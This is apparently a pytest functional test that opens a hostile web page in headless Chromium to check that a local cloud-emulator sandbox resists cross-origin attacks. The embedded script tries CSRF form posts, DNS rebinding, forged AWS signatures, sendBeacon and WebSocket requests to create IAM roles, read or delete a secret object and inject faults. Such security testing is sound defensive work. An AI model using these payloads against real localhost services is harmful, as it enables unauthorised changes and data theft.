"""A web page of another origin, in a real browser, tries everything it can against a sandbox."""

from __future__ import annotations

import http.server
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from backendctl.sandbox import process
from tests.functional.sandboxed import Sandbox

PAGE = """<!doctype html><title>evil</title><body><script>
const base = "http://127.0.0.1:PORT", rebound = "http://rebound.example:PORT";
const signed = "AWS4-HMAC-SHA256 Credential=A/20260101/us-east-1/SERVICE/aws4_request, SignedHeaders=host, Signature=0";
const query = "X-Amz-Credential=A%2F20260101%2Fus-east-1%2Fiam%2Faws4_request&X-Amz-Signature=0";
const role = "Action=CreateRole&Version=2010-05-08&RoleName=NAME&AssumeRolePolicyDocument=%7B%7D";
const told = {read: [], opened: [], loaded: [], tried: 0};
async function attempt(name, url, options) {
  told.tried += 1;
  try {
    const answer = await fetch(url, options);
    if (answer.type !== "opaque") { told.read.push(name + " " + answer.status + " " + (await answer.text())); }
  } catch (refused) { }
}
function form(url, fields) {
  told.tried += 1;
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random();
  const made = document.createElement("form");
  Object.assign(made, {method: "POST", action: url, target: frame.name, enctype: "text/plain"});
  for (const [key, value] of Object.entries(fields)) {
    const field = document.createElement("input"); field.name = key; field.value = value; made.append(field);
  }
  document.body.append(frame, made); made.submit();
}
function load(kind, url) {
  told.tried += 1;
  return new Promise(done => {
    const element = document.createElement(kind);
    element.onload = () => { told.loaded.push(url); done(); };
    element.onerror = done;
    element.src = url; document.body.append(element); setTimeout(done, 3000);
  });
}
function socket(url) {
  told.tried += 1;
  return new Promise(done => {
    const opened = new WebSocket(url);
    opened.onopen = () => { told.opened.push(url); done(); };
    opened.onerror = opened.onclose = done; setTimeout(done, 3000);
  });
}
(async () => {
  for (const host of [base, "http://localhost:PORT", rebound]) {
    for (const mode of ["cors", "no-cors"]) {
      const plain = {method: "POST", mode, headers: {"Content-Type": "text/plain"}};
      await attempt("role", host + "/", {...plain, body: role.replace("NAME", "plain-" + mode)});
      await attempt("query", host + "/?" + role.replace("NAME", "query-" + mode) + "&" + query, {mode});
      await attempt("reset", host + "/_ministack/reset", plain);
      await attempt("config", host + "/_ministack/config", {...plain, body: "{}"});
      await attempt("fault", host + "/_sandbox/faults", {...plain, body: '{"effect": "error"}'});
      await attempt("publish", host + "/2015-03-31/functions/victim/versions", {...plain, body: "{}"});
      await attempt("invoke", host + "/2015-03-31/functions/victim/invocations", {...plain, body: "{}"});
      const paths = ["/_sandbox/health", "/_sandbox/faults", "/_ministack/health", "/bucket/secret", "/restapis"];
      for (const path of paths) {
        await attempt("get " + path, host + path, {mode});
      }
    }
    for (const service of ["iam", "s3", "lambda"]) {
      const headers = {Authorization: signed.replace("SERVICE", service), "X-Sandbox-Client": "evil"};
      await attempt("forged", host + "/", {method: "POST", headers, body: role.replace("NAME", "forged-" + service)});
      await attempt("secret", host + "/bucket/secret", {headers});
      await attempt("delete", host + "/bucket/secret", {method: "DELETE", headers});
      await attempt("faults", host + "/_sandbox/faults", {method: "POST", headers, body: '{"effect": "error"}'});
    }
    navigator.sendBeacon(host + "/", new Blob([role.replace("NAME", "beacon")], {type: "text/plain"}));
    form(host + "/", {Action: "CreateRole", RoleName: "form"});
    form(host + "/_ministack/reset", {});
    await load("img", host + "/?" + role.replace("NAME", "img") + "&" + query);
    await load("script", host + "/_sandbox/health");
    await load("script", host + "/bucket/secret");
    await socket(host.replace("http", "ws") + "/mqtt");
  }
  await new Promise(done => setTimeout(done, 500));
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


@cache
def chromium() -> str | None:
    """The browser's program, if there is one."""
    return next((found for name in ("chromium", "chromium-browser") if (found := shutil.which(name))), None)


class Evil(http.server.ThreadingHTTPServer):
    """Serves one page on a port of its own and waits for what it tells."""

    daemon_threads = True

    def __init__(self, page: str) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.page = page
        self.told: Any = None
        self.done = threading.Event()


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Evil

    def do_GET(self) -> None:
        """The page."""
        self._answer(self.server.page.encode())

    def do_POST(self) -> None:
        """What it could do."""
        self.server.told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")
        self.server.done.set()

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", f"{len(body)}")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_arguments: Any) -> None:
        """Nothing."""


@contextmanager
def visited(page: str, profile: Path) -> Iterator[Evil]:
    """The page is open in a browser, in which `rebound.example` has become this machine."""
    evil = Evil(page)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    line = [
        str(chromium()),
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--no-proxy-server",
        "--disable-dev-shm-usage",
        f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP rebound.example 127.0.0.1, MAP evil.example 127.0.0.1",
        f"http://evil.example:{evil.server_address[1]}/",
    ]
    browser = subprocess.Popen(line, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield evil
    finally:
        browser.kill()
        browser.wait()
        evil.shutdown()
        evil.server_close()


@pytest.mark.skipif(chromium() is None, reason="there is no chromium on PATH to open a web page with")
def test_a_web_page_changes_nothing_and_reads_nothing(fresh_sandbox: Sandbox, tmp_path: Path) -> None:
    fresh_sandbox.function("victim", "def handler(event, context):\n    return 'code ran'\n")
    s3, functions, iam = (fresh_sandbox.client(name) for name in ("s3", "lambda", "iam"))
    s3.create_bucket(Bucket="bucket")
    s3.put_object(Bucket="bucket", Key="secret", Body=b"secret")
    roles = [role["RoleName"] for role in iam.list_roles()["Roles"]]

    with visited(PAGE.replace("PORT", f"{fresh_sandbox.port}"), tmp_path / "profile") as evil:
        assert evil.done.wait(60)

    assert evil.told["tried"] > 100
    assert (evil.told["read"], evil.told["opened"], evil.told["loaded"]) == ([], [], [])
    assert [role["RoleName"] for role in iam.list_roles()["Roles"]] == roles
    assert s3.get_object(Bucket="bucket", Key="secret")["Body"].read() == b"secret"
    assert len(functions.list_versions_by_function(FunctionName="victim")["Versions"]) == 1
    assert process.faults(fresh_sandbox.port, fresh_sandbox.data) == []
    assert fresh_sandbox.client("logs").describe_log_groups()["logGroups"] == []
